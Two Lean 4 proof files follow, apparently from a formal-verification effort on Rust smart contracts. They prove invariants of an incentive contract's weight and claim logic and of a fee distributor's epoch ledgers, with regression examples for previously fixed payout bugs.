  Property theorems only (helpers live in WW/Proofs/{Weight,Incentive}.lean). The models are
  `calcWeight` (replica of `incentive/src/weight.rs::calculate_weight`, engine `weight`) and the
  incentive state machine `WW.Inc.step` (engine `incentive`), both tied to the Rust by the
  correspondence run. The model follows the repaired code (fix commits F6, F11, F12, the share
  query repair, and the repair of the claim / rewards loops, which now read the weight history also
  for the epochs they skip before a flow's start).
-/
import WW.Proofs.Snapshot
import WW.Proofs.ClaimQuery
import WW.Proofs.ClaimWeights
import WW.Proofs.ShareQuery
namespace WW.C13
open WW WW.Gen WW.Inc

/-- The pure clauses' quantifier: a duration `calculate_weight` accepts and a `Uint128` amount. -/
structure Dom (d amt : Nat) : Prop where
  dur : DurOk d
  amt128 : amt ≤ U128MAX

/-- the accepted durations are the documented ones: 1 day … 1 (sidereal) year, in seconds -/
theorem duration_range : INCENTIVE_WEIGHT_MIN_DURATION = 86400 ∧ INCENTIVE_WEIGHT_MAX_DURATION = 31556926 := by
  decide

/-- On the domain the weight computation never panics, and it fails (with an error) only when the
    result does not fit 128 bits. -/
theorem weight_total {d amt : Nat} (h : Dom d amt) :
    calcWeight d amt = if wRaw d amt ≤ U128MAX then .ok (max (wRaw d amt) amt) else .err :=
  calcWeight_closed h.dur h.amt128

/-- A position's weight is at least its amount. -/
theorem weight_ge_amount {d amt w : Nat} (h : Dom d amt) (hw : calcWeight d amt = .ok w) : amt ≤ w := by
  obtain ⟨he, _⟩ := calcWeight_ok_eq h.dur h.amt128 hw
  rw [he]; exact Nat.le_max_right _ _

/-- The weight is non-decreasing in the amount (same duration), for ALL amounts below 2^128. -/
theorem weight_mono_amount {d a1 a2 w1 w2 : Nat} (h1 : Dom d a1) (h2 : Dom d a2) (hle : a1 ≤ a2)
    (hw1 : calcWeight d a1 = .ok w1) (hw2 : calcWeight d a2 = .ok w2) : w1 ≤ w2 := by
  obtain ⟨e1, _⟩ := calcWeight_ok_eq h1.dur h1.amt128 hw1
  obtain ⟨e2, _⟩ := calcWeight_ok_eq h2.dur h2.amt128 hw2
  have := wRaw_mono_amount (d := d) hle
  rw [e1, e2]; omega

/-- The weight is non-decreasing in the unbonding duration (same amount), for every allowed duration. -/
theorem weight_mono_duration {d1 d2 a w1 w2 : Nat} (h1 : Dom d1 a) (h2 : Dom d2 a) (hle : d1 ≤ d2)
    (hw1 : calcWeight d1 a = .ok w1) (hw2 : calcWeight d2 a = .ok w2) : w1 ≤ w2 := by
  obtain ⟨e1, _⟩ := calcWeight_ok_eq h1.dur h1.amt128 hw1
  obtain ⟨e2, _⟩ := calcWeight_ok_eq h2.dur h2.amt128 hw2
  have := wRaw_mono_duration (a := a) hle
  rw [e1, e2]; omega

/-- If the weight of the larger amount can be computed, so can the weight of the smaller one
    (so `expand_position`'s `weight(old+a) − weight(old)` never fails on the second term first). -/
theorem weight_ok_downward {d a1 a2 w2 : Nat} (h1 : Dom d a1) (h2 : Dom d a2) (hle : a1 ≤ a2)
    (hw2 : calcWeight d a2 = .ok w2) : ∃ w1, calcWeight d a1 = .ok w1 := by
  obtain ⟨_, hb⟩ := calcWeight_ok_eq h2.dur h2.amt128 hw2
  rw [calcWeight_closed h1.dur h1.amt128]
  have := wRaw_mono_amount (d := d) hle
  exact ⟨_, if_pos (le_trans this hb)⟩

/-- **global weight = Σ address weights**, over ALL histories: whatever sequence of operations
    (open / expand / close for oneself or a receiver, through the helper, claims, snapshots, flow
    operations, failed operations, any senders, any epochs and times) is applied to a freshly
    instantiated contract, `GLOBAL_WEIGHT` equals the sum of the `ADDRESS_WEIGHT` entries. -/
theorem global_eq_sum (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) :
    (reach c (init e0 bal) ops).global = sumVals (reach c (init e0 bal) ops).addrW :=
  (reach_WInv (init_WInv e0 bal) ops).global_sum

/-- … and every address weight is exactly the sum of the weights of that address's open positions
    (this is what makes `close_position`'s saturating subtraction exact). -/
theorem address_weight_eq_positions (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (u : Addr) :
    aget (reach c (init e0 bal) ops).addrW u = posSum (openOf (reach c (init e0 bal) ops) u) :=
  (reach_WInv (init_WInv e0 bal) ops).addr u

/-- the same invariant as a one-step statement from any state that satisfies it -/
theorem global_eq_sum_step {c : Cfg} {s s' : St} {e : Env} {op : Op} (hI : WInv s)
    (h : step c s e op = .ok s') : s'.global = sumVals s'.addrW :=
  (step_WInv hI h).global_sum

/-- **second claim pays nothing**: once an address has claimed in epoch `E`, every further claim by
    that address in epoch `E` is rejected (so it pays nothing and changes nothing), whatever anybody
    did in between (`others`: arbitrary operations by arbitrary senders, including further claim
    attempts of the same address in epoch `E`; `hep` only says the epoch has not moved on for that
    address's own claims). -/
theorem second_claim_nothing (c : Cfg) (s : St) (e : Env) (s1 : St)
    (h1 : step c s e .claim = .ok s1)
    (others : List (Env × Op))
    (hep : ∀ p ∈ others, p.2 = .claim → p.1.sender = e.sender → p.1.epoch = e.epoch)
    (e2 : Env) (hs : e2.sender = e.sender) (he : e2.epoch = e.epoch) :
    step c (reach c s1 others) e2 .claim = .err :=
  claim_twice_err c s e s1 h1 others hep e2 hs he

/-- **no claim pays more for an epoch than that epoch's emission**: in one iteration of the claim
    loop (one flow, one epoch) the amount added to the flow's `claimed_amount` — which is exactly the
    amount of the transfer message produced — is at most the emission computed for that epoch,
    `(funded as of the epoch − emitted before) / (epochs left)`. -/
theorem claim_le_emission {s : St} {u expAmt expEnd ep : Nat} {st st' : ClaimLoop}
    (h : claimEpoch s u expAmt expEnd st ep = .ok (.next st')) :
    st'.flow.claimed - st.flow.claimed ≤ emissionOf st.flow ep
    ∧ st'.msgs = st.msgs ++ (if st'.flow.claimed = st.flow.claimed then []
        else [Msg.send INC u st.flow.asset (st'.flow.claimed - st.flow.claimed)]) :=
  claimEpoch_le_emission h

/-- a claim never lets a flow's claimed amount exceed the flow's (expanded) funded amount -/
theorem claim_keeps_claimed_le_funded {s : St} {u expAmt expEnd ep : Nat} {st st' : ClaimLoop}
    (hle : st.flow.claimed ≤ expAmt)
    (h : claimEpoch s u expAmt expEnd st ep = .ok (.next st')) : st'.flow.claimed ≤ expAmt :=
  claimEpoch_claimed_le hle h

/-- **claim = quote (per flow)**: `claim.rs` and `queries/get_rewards.rs` are modelled as two separate
    loops (`claimFlow` with the 100-epoch cap, the running `claimed_amount` in its sanity check and the
    flow's own emitted-tokens ledger; `rewardsFlow` without cap, with the stored `claimed_amount` and a
    copy of the ledger). Whenever the claim has at most 100 epochs to go through for a flow and succeeds,
    the query on the same state succeeds too and reports exactly what the claim pays for that flow: the
    sum of the claim's transfer messages = the increase of `claimed_amount` = the query's total. -/
theorem claim_eq_rewards_query {s : St} {u epoch : Nat} {f f' : Flow} {msgs : List Msg}
    (hcap : epoch + 1 - (claimStart s u f).1 ≤ INCENTIVE_EPOCH_CLAIM_CAP)
    (h : claimFlow s u epoch f = .ok (f', msgs)) :
    ∃ r, rewardsFlow s u epoch f = .ok r ∧ f'.claimed = f.claimed + r.getD 0 ∧ msgSum msgs = r.getD 0 :=
  claimFlow_eq_rewardsFlow hcap h

/-- … and over all flows of the contract: the transfers of a successful claim add up to the sum of the
    query's per-flow entries (the query's answer before zero entries are dropped). -/
theorem claim_eq_rewards_query_total {s : St} {u epoch : Nat} (fl fl' : List Flow) (msgs : List Msg)
    (hcap : ∀ f ∈ fl, epoch + 1 - (claimStart s u f).1 ≤ INCENTIVE_EPOCH_CLAIM_CAP)
    (h : claimFlows s u epoch fl = .ok (fl', msgs)) :
    ∃ l, rewardsFlows s u epoch fl = .ok l ∧ msgSum msgs = pairSum l :=
  claimFlows_eq_rewardsFlows fl fl' msgs hcap h

/-- the cap in question is the documented 100 epochs -/
theorem claim_cap : INCENTIVE_EPOCH_CLAIM_CAP = 100 := by decide

/-- The shares clause: in epoch `E` the weights `effW` of the (distinct) addresses `us` add up to at most
    the epoch's global-weight snapshot. Proved for every epoch-monotone history, every epoch and every set
    of addresses by `shares_le_one` below with `effW := fun u => Inc.effW s.whist u E`, the weight the
    claim loop, the rewards query and the share query read for `E` (the `ADDRESS_WEIGHT_HISTORY` entry
    with the largest epoch `≤ E`, `0` if there is none; see `weight_used_is_effW`). Also checked on the
    real contracts by the monitors `C13:shares_le_one`. -/
def SharesLeOne (s : St) (E : Nat) (us : List Addr) (effW : Addr → Nat) : Prop :=
  ∀ g, alook s.snap E = some g → (us.map effW).sum ≤ g

/-- **shares_le_one**, over ALL histories whose epochs never go back, for EVERY placement of the snapshot
    call (explicit, lazy, never): whatever sequence of operations (any senders, receivers, amounts,
    durations, times, funds; opens, expansions, closes, claims in any order, snapshots anywhere, flow
    operations, helper deposits, failed operations) is applied to a freshly instantiated contract, for
    every epoch `E` that has a global-weight snapshot and every list `us` of distinct addresses, the
    weights in effect for `E` add up to at most `snapshot(E)`. -/
theorem shares_le_one (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (he : EpochsFrom e0 ops)
    (E : Nat) (us : List Addr) (hus : us.Nodup) :
    SharesLeOne (reach c (init e0 bal) ops) E us (fun u => Inc.effW (reach c (init e0 bal) ops).whist u E) := by
  obtain ⟨ep', h⟩ := reach_SInv (c := c) ops (init e0 bal) e0 (init_WInv e0 bal) (init_SInv e0 bal) he
  intro g hg
  exact h.W E g hg us hus

/-- … hence the shares (`Decimal256::from_ratio(weight, snapshot)`, floor at 18 decimals — what
    `rewardOf` and the share query compute) of any distinct addresses add up to at most 100 %, and the
    payouts `emission × share` (floor) of one flow for one epoch add up to at most that epoch's emission,
    whoever claims, whenever, in whatever order. -/
theorem shares_sum_le_one (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (he : EpochsFrom e0 ops)
    (E g : Nat) (us : List Addr) (hus : us.Nodup)
    (hg : alook (reach c (init e0 bal) ops).snap E = some g) (hpos : 0 < g) :
    (us.map (fun u => Inc.effW (reach c (init e0 bal) ops).whist u E * E18 / g)).sum ≤ E18
    ∧ ∀ emission,
        (us.map (fun u => emission * (Inc.effW (reach c (init e0 bal) ops).whist u E * E18 / g) / E18)).sum
          ≤ emission :=
  shares_of_weights us _ g hpos (shares_le_one c e0 bal ops he E us hus g hg)

/-- the invariant behind it as a one-transaction statement: `SInv s cur` (no history entry beyond
    `cur + 1`, no future snapshot, no next-epoch entry before the current snapshot exists, the latest entry
    of an address is its live weight, global = Σ address weights, and the shares clause for every
    snapshotted epoch) survives any successful transaction at any epoch `≥ cur`. -/
theorem shares_le_one_step {c : Cfg} {s s' : St} {e : Env} {op : Op} {cur : Nat} (hW : WInv s)
    (hI : SInv s cur) (hle : cur ≤ e.epoch) (h : step c s e op = .ok s') : SInv s' e.epoch :=
  step_SInv hW (SI.adv hI hle) h

/-- **the weight the loops use is `effW`** (one iteration): one iteration of the epoch loop of `claim.rs` /
    `get_rewards.rs` (both go through `weightAt`) at epoch `ep ≥ 1`, carrying a correct
    `(last_epoch_user_weight_update, last_user_weight_seen)` pair (`Carry`), uses exactly
    `effW whist u ep` as the address weight (`none` = the epoch is skipped = weight 0) and hands a correct
    pair to the next iteration. -/
theorem weight_used_is_effW {s : St} {u ep lu ls : Nat} (hep : 1 ≤ ep) (hC : Carry s.whist u ep lu ls) :
    (weightAt s u ep lu ls).2.2.getD 0 = Inc.effW s.whist u ep
    ∧ Carry s.whist u (ep + 1) (weightAt s u ep lu ls).1 (weightAt s u ep lu ls).2.1 :=
  weightAt_effW hep hC

/-- **every claim reads `effW`**, over ALL epoch-monotone histories: in any state reached from a fresh
    contract, for any address `u` and any flow `f`, the loop `claim` runs for `f` — started as `claim.rs`
    starts it (`claimStart`: first claimable epoch = last claimed epoch + 1, or the earlier of the flow's
    start and the address's earliest history entry; carried pair = that earliest entry) — uses
    `effW whist u ep` as `u`'s weight in EVERY iteration it reaches (`LoopReadsEffW`, `n` iterations for
    any `n`), including after the epochs it skips before the flow's start. Together with `shares_le_one`
    (`Σ_u effW u E ≤ snapshot(E)`) and `shares_sum_le_one` this is the shares clause for what is actually
    paid. -/
theorem claim_reads_effW (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (he : EpochsFrom e0 ops)
    (u : Addr) (f : Flow) (n : Nat) :
    LoopReadsEffW (reach c (init e0 bal) ops) u f.expanded.1 f.expanded.2 n
      (claimStart (reach c (init e0 bal) ops) u f).1
      { flow := f, lastUpd := (claimStart (reach c (init e0 bal) ops) u f).2.1,
        lastSeen := (claimStart (reach c (init e0 bal) ops) u f).2.2, count := 0, msgs := [] } := by
  obtain ⟨ep', hL⟩ := reach_LCI (c := c) ops (init e0 bal) e0 (init_LCI e0 bal) he
  exact loop_reads_effW (hL.zero u) n _ _ (claimStart_carry hL u f)

/-- … and so does the separately modelled rewards query (`get_rewards.rs`) -/
theorem rewards_query_reads_effW (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op))
    (he : EpochsFrom e0 ops) (u : Addr) (f : Flow) (n : Nat) :
    QueryReadsEffW (reach c (init e0 bal) ops) u f f.expanded.1 f.expanded.2 n
      (claimStart (reach c (init e0 bal) ops) u f).1
      { emitted := f.emitted, lastUpd := (claimStart (reach c (init e0 bal) ops) u f).2.1,
        lastSeen := (claimStart (reach c (init e0 bal) ops) u f).2.2, total := 0 } := by
  obtain ⟨ep', hL⟩ := reach_LCI (c := c) ops (init e0 bal) e0 (init_LCI e0 bal) he
  exact query_reads_effW (hL.zero u) n _ _ (claimStart_carry hL u f)

/-- **the share query reads `effW` too**, over ALL histories (no assumption on epochs): in any state
    reached from a fresh contract, a successful `CurrentEpochRewardsShare` query for address `u` in epoch
    `E` answers with `u`'s weight in effect for `E` — `effW`, exactly what the claim loop and the rewards
    query use (`claim_reads_effW`, `rewards_query_reads_effW`): the query's own lookup, "entry with the
    largest epoch `≤ E` of the address's filtered history map", is the same function because the history
    never holds two entries for one (address, epoch) (`reach_wkeys`) —, with the epoch's global-weight
    snapshot and with the floor share `weight · 10^18 / snapshot` (0 when the snapshot is 0). -/
theorem share_query_reads_effW (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op))
    (u : Addr) (E w g sh : Nat) (h : qShare (reach c (init e0 bal) ops) u E = .ok (w, g, sh)) :
    w = Inc.effW (reach c (init e0 bal) ops).whist u E
    ∧ g = aget (reach c (init e0 bal) ops).snap E
    ∧ sh = w * E18 / g :=
  qShare_spec (reach_wkeys ops (init e0 bal) (init_wkeys e0 bal)) h

/-- **the shares the query reports add up to at most 100 %**, over ALL epoch-monotone histories, for every
    epoch `E` and every list of distinct addresses: whatever the share query answers for them in the
    reached state (`ans u`, each a successful answer), the reported shares sum to at most `10^18`
    (= 100 % as a `Decimal256`) — the clause "the reward shares of all addresses, as reported by the
    share query, add up to at most 100 %" stated on the query's own output. -/
theorem share_query_sums_le_one (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op))
    (he : EpochsFrom e0 ops) (E : Nat) (us : List Addr) (hus : us.Nodup)
    (ans : Addr → Nat × Nat × Nat)
    (h : ∀ u ∈ us, qShare (reach c (init e0 bal) ops) u E = .ok (ans u)) :
    (us.map (fun u => (ans u).2.2)).sum ≤ E18 := by
  have hspec : ∀ u ∈ us, (ans u).2.2
      = Inc.effW (reach c (init e0 bal) ops).whist u E * E18 / aget (reach c (init e0 bal) ops).snap E := by
    intro u hu
    obtain ⟨h1, h2, h3⟩ := share_query_reads_effW c e0 bal ops u E (ans u).1 (ans u).2.1 (ans u).2.2 (h u hu)
    rw [h3, h1, h2]
  rw [List.map_congr_left hspec]
  cases hg : alook (reach c (init e0 bal) ops).snap E with
  | none =>
    have : aget (reach c (init e0 bal) ops).snap E = 0 := by unfold aget; rw [hg]; rfl
    rw [this]
    simp
  | some g =>
    have hag : aget (reach c (init e0 bal) ops).snap E = g := by unfold aget; rw [hg]; rfl
    rw [hag]
    by_cases hz : g = 0
    · subst hz; simp
    · exact (shares_sum_le_one c e0 bal ops he E g us hus hg (Nat.pos_of_ne_zero hz)).1

/-- the F11 mechanism on its own (kept from the first version; subsumed by `shares_le_one`): in any
    state reachable from a fresh contract and for any further successful operation in epoch `E`
    (a) a snapshot that already exists — for any epoch — is never changed;
    (b) if the snapshot of an epoch appears in this operation, it is the operation's own epoch and its
        value is the global weight *before* the operation, which is the sum of all address weights
        before the operation (so a position change can never slip in front of its epoch's snapshot,
        whether the snapshot is taken by the permissionless call or lazily);
    (c) if the operation changed any weight, its epoch has a snapshot afterwards. -/
theorem shares_le_one_partial (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op))
    (e : Env) (op : Op) (s' : St) (h : step c (reach c (init e0 bal) ops) e op = .ok s') :
    (∀ E g, alook (reach c (init e0 bal) ops).snap E = some g → alook s'.snap E = some g)
    ∧ (∀ E g, alook (reach c (init e0 bal) ops).snap E = none → alook s'.snap E = some g →
        E = e.epoch ∧ g = (reach c (init e0 bal) ops).global
        ∧ g = sumVals (reach c (init e0 bal) ops).addrW)
    ∧ (wcore s' ≠ wcore (reach c (init e0 bal) ops) → alook s'.snap e.epoch ≠ none) := by
  obtain ⟨hs, hc⟩ := step_snap h
  refine ⟨fun E g hg => hs.keeps hg, ?_, hc⟩
  intro E g hn hg
  obtain ⟨h1, h2⟩ := hs.new_value hn hg
  exact ⟨h1, h2, by rw [h2]; exact (reach_WInv (init_WInv e0 bal) ops).global_sum⟩

/-- non-vacuity: two holders, a flow of 1 000 000 over epochs 2..12; in epoch 2 alice closes BEFORE
    anybody calls the snapshot (the F11 scenario): the lazy snapshot is 2000, both are quoted and paid
    50 000 = half of the epoch's emission of 100 000, a second claim by bob is rejected. -/
example :
    let c : Cfg := { lpNative := false, feeAsset := 1, feeAmt := 1, maxFlows := 3, buffer := 10, minDur := 86400, maxDur := 31556926 }
    let s0 := init 1 [((1, 0), 5000), ((2, 0), 5000), ((4, 1), 10), ((4, 2), 2000000)]
    let s := reach c s0 [({ epoch := 1, time := 1000, sender := 1, offers := [(0, 1000)] }, .openPos 1000 86400 none),
                         ({ epoch := 1, time := 1000, sender := 2, offers := [(0, 1000)] }, .openPos 1000 86400 none),
                         ({ epoch := 1, time := 1000, sender := 4, offers := [(1, 1), (2, 1000000)] }, .openFlow 2 1000000 (some 2) (some 12)),
                         ({ epoch := 2, time := 1000, sender := 1, offers := [] }, .closePos 86400)]
    let s2 := reach c s [({ epoch := 2, time := 1000, sender := 1, offers := [] }, .claim),
                         ({ epoch := 2, time := 1000, sender := 2, offers := [] }, .claim)]
    (alook s.snap 2, getRewards s 1 2, getRewards s 2 2) = (some 2000, .ok [(2, 50000)], .ok [(2, 50000)])
    ∧ (balOf s2 1 2, balOf s2 2 2, s2.global, sumVals s2.addrW) = (50000, 50000, 1000, 1000)
    ∧ (step c s2 { epoch := 2, time := 1000, sender := 2, offers := [] } .claim).isOk = false := by decide

/-- regression (the defect repaired by the last incentive fix): alice opens in epoch 1 and closes in epoch 3
    without ever claiming, a flow starts in epoch 5. Before the repair the loops carried alice's earliest
    history entry (1000) past the later one (0) because the epochs before the flow's start were skipped
    unread, and alice and bob were each paid the whole emission of epoch 5. Now: `effW` of alice for epoch 5
    is 0, she is quoted and paid nothing, bob gets the 100 000. -/
example :
    let c : Cfg := { lpNative := false, feeAsset := 1, feeAmt := 1, maxFlows := 3, buffer := 10, minDur := 86400, maxDur := 31556926 }
    let s0 := init 1 [((1, 0), 5000), ((2, 0), 5000), ((4, 1), 10), ((4, 2), 2000000)]
    let s := reach c s0 [({ epoch := 1, time := 1000, sender := 1, offers := [(0, 1000)] }, .openPos 1000 86400 none),
                         ({ epoch := 1, time := 1000, sender := 2, offers := [(0, 1000)] }, .openPos 1000 86400 none),
                         ({ epoch := 3, time := 1000, sender := 1, offers := [] }, .closePos 86400),
                         ({ epoch := 3, time := 1000, sender := 4, offers := [(1, 1), (2, 1000000)] }, .openFlow 2 1000000 (some 5) (some 15)),
                         ({ epoch := 5, time := 1000, sender := 3, offers := [] }, .snapshot)]
    let s2 := reach c s [({ epoch := 5, time := 1000, sender := 1, offers := [] }, .claim),
                         ({ epoch := 5, time := 1000, sender := 2, offers := [] }, .claim)]
    (Inc.effW s.whist 1 5, Inc.effW s.whist 2 5, alook s.snap 5) = (0, 1000, some 1000)
    ∧ (getRewards s 1 5, getRewards s 2 5) = (.ok [], .ok [(2, 100000)])
    ∧ (balOf s2 1 2, balOf s2 2 2, s2.flows.map (·.claimed)) = (0, 100000, [100000]) := by decide

/-- non-vacuity / exact values: the five documented points of the weight curve. -/
example : calcWeight 86400 10000 = .ok 10000 ∧ calcWeight 31556926 10000 = .ok 159999
    ∧ calcWeight 15778463 10000 = .ok 49999 ∧ calcWeight 100 64 = .err
    ∧ calcWeight 1000000 1 = .ok 1 ∧ calcWeight 1000000 24 = .ok 25 := by decide

/-- non-vacuity of `share_query_reads_effW` / `share_query_sums_le_one`: the F11 scenario above (alice
    closes in epoch 2 before any snapshot call) — the query reports weight 1000 of 2000 = 50 % for each. -/
example :
    let c : Cfg := { lpNative := false, feeAsset := 1, feeAmt := 1, maxFlows := 3, buffer := 10, minDur := 86400, maxDur := 31556926 }
    let s0 := init 1 [((1, 0), 5000), ((2, 0), 5000), ((4, 1), 10), ((4, 2), 2000000)]
    let s := reach c s0 [({ epoch := 1, time := 1000, sender := 1, offers := [(0, 1000)] }, .openPos 1000 86400 none),
                         ({ epoch := 1, time := 1000, sender := 2, offers := [(0, 1000)] }, .openPos 1000 86400 none),
                         ({ epoch := 2, time := 1000, sender := 1, offers := [] }, .closePos 86400)]
    (qShare s 1 2, qShare s 2 2, qShare s 3 2)
      = (.ok (1000, 2000, 500000000000000000), .ok (1000, 2000, 500000000000000000), .ok (0, 2000, 0))
    ∧ (Inc.effW s.whist 1 2, Inc.effW s.whist 1 3) = (1000, 0) := by decide

end WW.C13
