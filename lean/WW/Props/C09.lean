/-
  C09 — Fee distributor: epoch ledgers balance and no epoch is paid twice.

  Theorems about `WW.Model.Distributor` with MULTI-ASSET epoch ledgers: the distribution asset is part of
  the state and the owner may switch it in mid-history (op `setDist` = `UpdateConfig { distribution_asset }`),
  so an epoch created after a switch receives its inflow in the new asset AND the unclaimed remainder of
  the expiring epoch in the old one; `total / available / claimed` are the `Vec<Asset>` of the Rust
  (association lists in vector order), every statement below is PER ASSET (`amtOf a`, `sumAvail a`, …).
  The collector's inflow per new epoch (in whatever the distribution asset is at that moment), the lair's
  weight share per (address, epoch) and the lair's `first_bonded_epoch_id` are arbitrary parameters of the
  operations: every theorem below holds for all of them.  Histories are arbitrary lists of operations
  (`NewEpoch` / `Claim` by anybody / `UpdateConfig{grace_period}` / `UpdateConfig{distribution_asset}` /
  token gifts in any asset), failed operations leave the state unchanged; bonding and unbonding act on
  the lair only and do not touch the ledger.
  `joint_histories` restates the history invariants over the joint machine of the `feeflow` engine, whose
  alphabet contains every entry point the engine sends (also direct `CollectFees` / `AggregateFees`).

  LEDGER CLAUSE AT FULL STRENGTH (`epoch_ledger`, `epoch_ledger_per_asset`).  For every asset of every epoch,
  also of an epoch that holds several assets, `claimed + available = total` until the epoch expires:
  `claim` records every reward with `asset::aggregate_assets(epoch.claimed, [reward])`, which adds to the
  entry of that asset or creates it.  (Up to the fix recorded in known_findings.json under `fixed:
  property=C09 … claim recorded rewards in epoch.claimed only for the first asset paid` the code created
  `claimed` from the first asset paid and never added an entry for another one; the equation was then
  refuted for multi-asset epochs and only `≤` was provable.)  After expiry (`available` emptied, the
  remainder moved to the new epoch) `claimed ≤ total` remains.
-/
import WW.Proofs.Distributor
import WW.Proofs.Collector
import WW.Proofs.LairEpoch
namespace WW.C09
open WW WW.Distributor

/-- a record of `s'` that is not a record of `s`: an epoch the operation modified -/
def Changed (s s' : St) (e : Epoch) : Prop := e ∈ s'.epochs ∧ e ∉ s.epochs

/-- the ledger clause of the property, for one epoch and one asset: `claimed + available = total` -/
def LedgerClause (e : Epoch) (a : Nat) : Prop :=
  amtOf a e.claimed + amtOf a e.avail = amtOf a e.total

theorem ledgerClause_of_ok {e : Epoch} (h : LedgerOk e) (hne : e.avail ≠ []) (a : Nat) : LedgerClause e a :=
  (h.2 hne).2.2.2 a

/-- **epoch_ledger** — over ALL histories from instantiation (any grace period ≥ 1 with increases, any
    initial distribution asset with switches in mid-history), for EVERY epoch on record (inside or outside
    the grace window) and EVERY asset `a`: `claimed_a + available_a ≤ total_a`, and as long as the epoch's
    `available` has not been emptied by expiry, `claimed_a + available_a = total_a` — also when the epoch
    holds several assets.  Moreover every asset is listed at most once in `available` and in `claimed`, and
    `claimed` only lists assets of `total`. -/
theorem epoch_ledger (cfg : Cfg) (g d : Nat) (hg : 1 ≤ g) (ops : List Op) :
    ∀ e ∈ (reach cfg (St.init g d) ops).epochs,
      (∀ a, amtOf a e.claimed + amtOf a e.avail ≤ amtOf a e.total) ∧
      (e.avail ≠ [] →
        (keys e.avail).Nodup ∧ (keys e.claimed).Nodup ∧ (∀ k ∈ keys e.claimed, k ∈ keys e.total) ∧
        ∀ a, LedgerClause e a) :=
  fun e he =>
    have h := (reach_inv cfg ops _ (inv_init g d hg)).ledger e he
    ⟨h.1, fun hne => ⟨(h.2 hne).1, (h.2 hne).2.1, (h.2 hne).2.2.1, ledgerClause_of_ok h hne⟩⟩

/-- the same from any state that satisfies the invariant (e.g. a migrated deployment) -/
theorem epoch_ledger_from (cfg : Cfg) (s : St) (hI : Inv s) (ops : List Op) :
    ∀ e ∈ (reach cfg s ops).epochs, e.avail ≠ [] → ∀ a, LedgerClause e a :=
  fun e he hne => ledgerClause_of_ok ((reach_inv cfg ops s hI).ledger e he) hne

/-- an EXPIRED epoch (`available` emptied when it left the grace window; every epoch outside the window is
    one, `expired_stay_empty`): what remains of the clause is `claimed_a ≤ total_a` for every asset — the
    difference is what was moved to the epoch created at that moment (`expire_once`). -/
theorem epoch_ledger_expired (cfg : Cfg) (g d : Nat) (hg : 1 ≤ g) (ops : List Op) :
    ∀ e ∈ (reach cfg (St.init g d) ops).epochs, e.avail = [] → ∀ a, amtOf a e.claimed ≤ amtOf a e.total :=
  fun e he h0 a => by
    have := (epoch_ledger cfg g d hg ops e he).1 a
    rw [h0] at this
    simpa [amtOf] using this

/-- **epoch_ledger, single-asset epochs** — the special case of `epoch_ledger` for a live epoch that holds at
    most one asset (= every epoch of a history without a switch of the distribution asset). -/
theorem epoch_ledger_single_asset (cfg : Cfg) (g d : Nat) (hg : 1 ≤ g) (ops : List Op) :
    ∀ e ∈ (reach cfg (St.init g d) ops).epochs, e.avail ≠ [] → e.total.length ≤ 1 →
      ∀ a, amtOf a e.claimed + amtOf a e.avail = amtOf a e.total :=
  fun e he hne _ a => ((epoch_ledger cfg g d hg ops e he).2 hne).2.2.2 a

/-- the clause of the property as stated, at full strength for every asset of every live epoch -/
def EpochLedgerPerAsset : Prop :=
  ∀ (cfg : Cfg) (g d : Nat), 1 ≤ g → ∀ (ops : List Op), ∀ e ∈ (reach cfg (St.init g d) ops).epochs,
    e.avail ≠ [] → ∀ a, amtOf a e.claimed + amtOf a e.avail = amtOf a e.total

/-- **epoch_ledger_per_asset** — the clause as stated HOLDS: every asset of every live epoch, multi-asset
    epochs included (before the fix of `claim` this was refuted, `epoch_ledger_per_asset_fails`). -/
theorem epoch_ledger_per_asset : EpochLedgerPerAsset :=
  fun cfg g d hg ops e he hne a => ((epoch_ledger cfg g d hg ops e he).2 hne).2.2.2 a

/-- **expire_once** (the step) — when a new epoch is created: the epoch that leaves the grace window
    (position `grace-1` of the newest-first list, if there are that many) hands over exactly its
    `available` — in EVERY asset, whatever the distribution asset is now — to the new epoch, which in
    addition receives the inflow in the current distribution asset; the expiring epoch's `available`
    becomes empty, it keeps id / start / total / claimed, no other epoch is touched, and per asset the sum
    of all `available` and the balance grow by exactly the inflow (nothing is lost, nothing counted twice). -/
theorem expire_once (cfg : Cfg) (s s' : St) (now : Nat) (inflow : Option Nat)
    (h : newEpoch cfg s now inflow = .ok s') :
    ∃ new rest, s'.epochs = new :: rest ∧
      (∀ a, amtOf a new.total = sel s.dist a (amt inflow) + amtOf a (availAt s.epochs (s.grace - 1))) ∧
      new.avail = new.total ∧ new.claimed = [] ∧
      availAt rest (s.grace - 1) = [] ∧
      (∀ j, j ≠ s.grace - 1 → rest[j]? = s.epochs[j]?) ∧
      rest.map (fun e => (e.id, e.start, e.total, e.claimed)) =
        s.epochs.map (fun e => (e.id, e.start, e.total, e.claimed)) ∧
      (∀ a, sumAvail a s'.epochs = sumAvail a s.epochs + sel s.dist a (amt inflow)) ∧
      (∀ a, s'.bal a = s.bal a + sel s.dist a (amt inflow)) ∧
      s'.dist = s.dist ∧ s'.grace = s.grace := by
  unfold newEpoch at h
  cases hn : nextEpoch cfg s now with
  | err => rw [hn] at h; simp at h
  | panic => rw [hn] at h; simp at h
  | ok pr =>
    obtain ⟨id, start⟩ := pr
    rw [hn] at h; simp only at h
    obtain ⟨_, tot, hagg, hs'⟩ := receiveEpoch_spec h
    subst hs'
    obtain ⟨hamt, _⟩ := agg_spec _ _ _ hagg
    refine ⟨_, _, rfl, fun a => ?_, rfl, rfl, takeOut_at _ _, takeOut_others _ _, takeOut_keeps _ _,
      fun a => ?_, fun a => addAt_apply _ _ _ _, rfl, rfl⟩
    · rw [← takeOut_rolled, ← amtOf_inflowLedger]; exact hamt a
    · have h1 := takeOut_sum a (s.grace - 1) s.epochs
      have h2 := hamt a
      rw [amtOf_inflowLedger] at h2
      simp only [sumAvail]
      omega

/-- **expire_once** (the invariant) — in every reachable state every epoch outside the grace window
    has an empty `available` (no asset left): what an expired epoch held has been moved, and (being
    empty) can never be moved or claimed again — also after the grace period was increased or the
    distribution asset switched. -/
